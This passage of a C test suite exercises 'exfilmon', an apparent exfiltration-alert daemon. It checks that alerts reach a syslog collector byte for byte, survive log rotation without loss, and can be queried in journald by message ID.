	if (access(RSYSLOGD, X_OK))
		SKIP(return, RSYSLOGD " is not installed (Debian's rsyslog)");

	lfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	ASSERT_LE(0, lfd);
	ASSERT_EQ(0, bind(lfd, (struct sockaddr *)&sin, sizeof(sin)));
	ASSERT_EQ(0, listen(lfd, 8));
	ASSERT_EQ(0, getsockname(lfd, (struct sockaddr *)&sin, &slen));

	snprintf(path, sizeof(path), "%s/rsyslog", e->dir);
	ASSERT_EQ(0, mkdir(path, 0700));
	snprintf(conf, sizeof(conf), RSYSLOG_CONF, e->dir,
		 ntohs(sin.sin_port), e->jsonlog);
	snprintf(path, sizeof(path), "%s/rsyslog.conf", e->dir);
	ASSERT_EQ(0, write_file(path, conf));
	snprintf(pidfile, sizeof(pidfile), "%s/rsyslogd.pid", e->dir);
	EXPECT_EQ(0, capture(out, sizeof(out), RSYSLOGD " -N1 -f %s 2>&1",
			     path)) {
		TH_LOG("rsyslogd refuses the config: %s", out);
	}
	had_devlog = !lstat("/dev/log", &devlog_before);

	rs = fork();
	ASSERT_LE(0, rs);
	e->rsyslogd = rs;	/* killed by the teardown if we fail */
	if (!rs) {
		char err[160];
		int fd;

		snprintf(err, sizeof(err), "%s/rsyslogd.out", e->dir);
		fd = open(err, O_WRONLY | O_CREAT | O_APPEND, 0600);
		dup2(fd, 1);
		dup2(fd, 2);
		execl(RSYSLOGD, "rsyslogd", "-n", "-f", path, "-i", pidfile,
		      (char *)NULL);
		_exit(127);
	}
	/* one alert before rsyslogd reads the file, one after */
	theft_logged(_metadata, e, e->th.remote4, NULL, 1);
	theft_logged(_metadata, e, e->th.remote6, NULL, 2);
	EXPECT_EQ(4, receive_lines(lfd, &got, 4));
	kill(rs, SIGTERM);
	ASSERT_EQ(rs, waitpid(rs, &status, 0));
	e->rsyslogd = 0;
	EXPECT_TRUE(WIFEXITED(status) && !WEXITSTATUS(status)) {
		TH_LOG("rsyslogd ended with status 0x%x", status);
	}
	run("cat %s/rsyslogd.out >&2", e->dir);
	close(lfd);

	/* each line arrived once, byte for byte */
	ASSERT_EQ(0, lines_read(&sent, e->jsonlog));
	ASSERT_EQ(4, sent.n);
	ASSERT_EQ(4, got.n);
	for (i = 0; i < 4; i++) {
		int64_t id = num_at(got.obj[i], "exfilmon.alert_id");
		const char *ev = str_at(got.obj[i], "exfilmon.event");
		int j = line_of(&sent, id, ev);

		ASSERT_NE(NULL, got.obj[i]);
		ASSERT_LE(0, j);
		EXPECT_STREQ(sent.text[j], got.text[i]);
		EXPECT_EQ(num_at(sent.obj[j], "source.bytes"),
			  num_at(got.obj[i], "source.bytes"));
		EXPECT_EQ(i, line_of(&got, id, ev));	/* no duplicate */
	}
	EXPECT_EQ(e->size, num_at(got.obj[line_of(&got, 2, "update")],
				  "exfilmon.bytes_sent"));
	/* and the system's syslog socket is as it was */
	EXPECT_EQ(had_devlog, !lstat("/dev/log", &devlog_after));
	if (had_devlog)
		EXPECT_EQ(devlog_before.st_ino, devlog_after.st_ino);
	lines_free(&got);
	lines_free(&sent);
}

/*
 * (d) Rotation: packaging/logrotate/exfilmon, pointed at the test's log,
 * by the real logrotate; where there is none, its rename by hand. The
 * daemon must move to the new file within its 1 s tick and lose no line:
 * one written before it noticed stays in the rotated file.
 */

/* Whether the daemon has path open (the file path names now). */
static int holds(pid_t pid, const char *path)
{
	struct stat want, st;
	char fd[64];
	int i;

	if (stat(path, &want))
		return 0;
	for (i = 0; i < 1024; i++) {
		snprintf(fd, sizeof(fd), "/proc/%d/fd/%d", (int)pid, i);
		if (!stat(fd, &st) && st.st_dev == want.st_dev &&
		    st.st_ino == want.st_ino)
			return 1;
	}
	return 0;
}

static void rotate(struct __test_metadata *_metadata, struct world *e,
		   const char *rotated)
{
	char conf[160], state[160], out[4096];

	if (access(LOGROTATE, X_OK) || access(LOGROTATE_CONF, R_OK)) {
		TH_LOG("no logrotate here: renaming as it does");
		ASSERT_EQ(0, rename(e->jsonlog, rotated));
		return;
	}
	snprintf(conf, sizeof(conf), "%s/logrotate.conf", e->dir);
	snprintf(state, sizeof(state), "%s/logrotate.state", e->dir);
	/* the snippet with the test's path, and no exfilmon group */
	ASSERT_EQ(0, run("sed -e 's|^/var/lib/exfilmon/alerts.json|%s|' "
			 "-e 's|root exfilmon|root root|' %s > %s && "
			 "grep -q '^%s {' %s", e->jsonlog, LOGROTATE_CONF,
			 conf, e->jsonlog, conf));
	EXPECT_EQ(0, capture(out, sizeof(out), LOGROTATE " -f -s %s %s 2>&1",
			     state, conf)) {
		TH_LOG("logrotate: %s", out);
	}
	ASSERT_EQ(0, access(rotated, F_OK));
}

TEST_F_TIMEOUT(siem, rotation_loses_no_line, 120)
{
	static const char *const events[] = { "new", "update" };
	struct world *e = &self->e;
	struct lines before = { 0 }, old = { 0 }, cur = { 0 }, all = { 0 };
	struct stat st_old, st_new;
	char rotated[160];
	int id, k, i;

	if (_metadata->skip)
		return;	/* skipped in the setup */

	/* alert 1's update is still to come when the file moves */
	ASSERT_LT(0, steal(e, e->th.remote4, NULL));
	ASSERT_EQ(0, wait_lines(e->jsonlog, 1, "new"));
	ASSERT_EQ(0, lines_read(&before, e->jsonlog));
	ASSERT_EQ(1, before.n);
	ASSERT_EQ(0, stat(e->jsonlog, &st_old));

	snprintf(rotated, sizeof(rotated), "%s.1", e->jsonlog);
	rotate(_metadata, e, rotated);
	/* alert 2's new line races the daemon's move to the new file */
	ASSERT_LT(0, steal(e, e->th.remote6, NULL));
	for (i = 0; i < 20 && !holds(e->daemon, e->jsonlog); i++)
		usleep(100000);
	ASSERT_TRUE(holds(e->daemon, e->jsonlog)) {
		TH_LOG("the daemon did not open the new log within 2 s");
		run("cat %s >&2", e->log);
	}
	ASSERT_EQ(0, stat(e->jsonlog, &st_new));
	EXPECT_NE(st_old.st_ino, st_new.st_ino);
	EXPECT_EQ(0640, st_new.st_mode & 07777);

	/* the updates come 5 s after the thefts: to the new file */
	ASSERT_EQ(0, wait_lines(e->jsonlog, 1, "update"));
	ASSERT_EQ(0, wait_lines(e->jsonlog, 2, "update"));
	/* delaycompress: the rotated file is still plain */
	ASSERT_EQ(0, lines_read(&old, rotated));
	ASSERT_EQ(0, lines_read(&cur, e->jsonlog));
	ASSERT_EQ(0, lines_read(&all, rotated));
	ASSERT_EQ(0, lines_read(&all, e->jsonlog));
	TH_LOG("%d line(s) in the rotated file, %d in the new one", old.n,
	       cur.n);
	EXPECT_LE(1, old.n);
	EXPECT_STREQ(before.text[0], old.text[0]);
	EXPECT_LE(0, line_of(&cur, 1, "update"));
	EXPECT_LE(0, line_of(&cur, 2, "update"));
	/* every line once, in one file or the other */
	EXPECT_EQ(4, all.n);
	for (id = 1; id <= 2; id++)
		for (k = 0; k < 2; k++)
			EXPECT_LE(0, line_of(&all, id, events[k]));
	for (i = 0; i < all.n; i++)
		EXPECT_NE(NULL, all.obj[i]);
	lines_free(&before);
	lines_free(&old);
	lines_free(&cur);
	lines_free(&all);
}

/*
 * Where a journal runs, what journalctl shows: the daemon then runs in
 * our namespace and sends to the real journald.
 */
FIXTURE(journald) {
	struct world e;
};

FIXTURE_SETUP(journald)
{
	int ret;

	if (access(JOURNAL_SOCKET, W_OK) ||
	    system("command -v journalctl >/dev/null 2>&1"))
		SKIP(return, "no journald runs here (%s, journalctl); the "
		     "native protocol is tested in siem instead",
		     JOURNAL_SOCKET);
	ret = world_up(_metadata, &self->e, 0);
	if (ret != 1)
		ASSERT_EQ(0, ret);
}

FIXTURE_TEARDOWN(journald)
{
	world_down(&self->e);
}

/* journalctl -o json's object as an entry (string fields only) */
static void entry_from_json(struct entry *en, struct json_object *o)
{
	json_object_object_foreach(o, key, val) {
		if (json_object_is_type(val, json_type_string))
			entry_add(en, key, strlen(key),
				  json_object_get_string(val),
				  json_object_get_string_len(val));
	}
}

TEST_F_TIMEOUT(journald, journalctl_selects_alerts_by_message_id, 120)
{
	struct world *e = &self->e;
	struct entry en[2] = { 0 };
	struct json_object *shown;
	static char out[1 << 18];
	char *line, *save = NULL;
	int i, n = 0;

	if (_metadata->skip)
		return;	/* skipped in the setup */

	theft_logged(_metadata, e, e->th.remote4, NULL, 1);
	/* journald may take a moment to make the entries visible */
	for (i = 0; i < 50 && n < 2; i++) {
		usleep(100000);
		ASSERT_EQ(0, capture(out, sizeof(out),
				     "journalctl --no-pager --all -o json "
				     "MESSAGE_ID=" MESSAGE_ID " _PID=%d",
				     (int)e->daemon));
		n = 0;
		for (line = out; *line; line++)
			n += *line == '\n';
	}
	ASSERT_EQ(2, n);
	for (i = 0, line = strtok_r(out, "\n", &save); line && i < 2;
	     i++, line = strtok_r(NULL, "\n", &save)) {
		struct json_object *o = json_tokener_parse(line);

		ASSERT_NE(NULL, o);
		entry_from_json(&en[i], o);
		json_object_put(o);
	}
	shown = show(e, 1);
	ASSERT_NE(NULL, shown);
	EXPECT_STREQ("new", entry_get(&en[0], "EXFILMON_EVENT"));
	check_entry(_metadata, &en[1], shown, "update", e);
	json_object_put(shown);
	entry_free(&en[0]);
	entry_free(&en[1]);
}

TEST_HARNESS_MAIN
